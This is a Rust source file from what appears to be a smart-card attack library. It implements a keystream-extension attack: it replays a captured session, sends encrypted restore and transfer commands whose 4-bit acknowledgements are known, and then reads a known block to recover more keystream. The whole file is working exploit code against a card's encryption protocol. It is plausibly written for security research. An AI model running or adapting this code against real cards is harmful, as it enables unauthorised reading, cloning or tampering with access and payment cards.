//! Growing keystream coverage with commands that are answered by 4 bits.
//!
//! A read costs 32 + 144 bits. A restore with its operand and a few
//! transfers cost 84 + 36 bits each, and the 4-bit answers are known. So
//! a known block read after them lands beyond the current coverage, and
//! its known plaintext reveals new keystream. The transfers write the
//! block's own value back, so memory is left as it was.

use super::dump::Replayer;
use super::keystream::RecoveredKeystream;
use super::replay::{AttackOptions, ReplayContext};
use super::{AttackError, FIRST_COMMAND_START};
use crate::commands::{Command, ACK, NACK_NOT_ALLOWED};
use crate::framing::{with_crc, WireBits};
use crate::layout::Block;
use crate::session::AttackerPort;
use crate::tracefmt::Trace;

const COMMAND_BITS: usize = 32;
const NIBBLE_BITS: usize = 4;
const OPERAND_BITS: usize = 48;
const BLOCK_ANSWER_BITS: usize = 144;

fn answer(ks: &RecoveredKeystream, start: usize, reply: Option<WireBits>) -> Result<u8, AttackError> {
    let reply = reply.ok_or(AttackError::NoAnswer("value command"))?;
    ks.decrypt_partial(start, &reply).0.first().copied().flatten().ok_or(AttackError::Gap { index: start })
}

/// Runs `iterations` rounds of extension. `value_block` must hold a value
/// block the replayed key may restore and transfer; `known` is a block in
/// the sector whose contents are known. Coverage of every round strictly
/// exceeds the previous one.
pub fn extend_keystream_via_ack<P: AttackerPort + ?Sized>(
    port: &mut P,
    trace: &Trace,
    ks: &RecoveredKeystream,
    value_block: usize,
    known: (usize, Block),
    iterations: usize,
    opts: &AttackOptions,
) -> Result<RecoveredKeystream, AttackError> {
    let ctx = ReplayContext::from_trace(trace)?;
    let mut r = Replayer::new(&ctx, opts, alloc::vec::Vec::new())?;
    let mut ks = ks.clone();
    let code = |c: Command, b: usize| with_crc(&[opts.commands.code(c), b as u8]);
    for _ in 0..iterations {
        let covered = ks.first_gap(FIRST_COMMAND_START);
        let head = COMMAND_BITS + NIBBLE_BITS + OPERAND_BITS;
        let per_transfer = COMMAND_BITS + NIBBLE_BITS;
        // the final read command, including its trailing parity peek, must lie
        // inside the coverage
        let room =
            covered.checked_sub(FIRST_COMMAND_START + head + COMMAND_BITS + 1).ok_or(AttackError::Gap { index: covered })?;
        let transfers = room / per_transfer;

        r.replay(port)?;
        let mut pos = FIRST_COMMAND_START;
        let restore = ks.encrypt_bytes(pos, &code(Command::Restore, value_block))?;
        match answer(&ks, pos + COMMAND_BITS, port.send(&restore))? {
            ACK => {}
            NACK_NOT_ALLOWED => return Err(AttackError::NotApplicable("value operations are not allowed on this block")),
            n => return Err(AttackError::Nack(n)),
        }
        pos += COMMAND_BITS + NIBBLE_BITS;
        let operand = ks.encrypt_bytes(pos, &with_crc(&0i32.to_le_bytes()))?;
        if port.send(&operand).is_some() {
            return Err(AttackError::Verification(alloc::string::String::from("card answered a value operand")));
        }
        pos += OPERAND_BITS;
        for _ in 0..transfers {
            let t = ks.encrypt_bytes(pos, &code(Command::Transfer, value_block))?;
            match answer(&ks, pos + COMMAND_BITS, port.send(&t))? {
                ACK => {}
                n => return Err(AttackError::Nack(n)),
            }
            pos += per_transfer;
        }
        let read = ks.encrypt_bytes(pos, &code(Command::Read, known.0))?;
        let block = port.send(&read).ok_or(AttackError::NoAnswer("read"))?;
        ks.learn_known_frame(pos + COMMAND_BITS, &block, &with_crc(&known.1))?;
        debug_assert!(pos + COMMAND_BITS + BLOCK_ANSWER_BITS > covered);
    }
    Ok(ks)
}
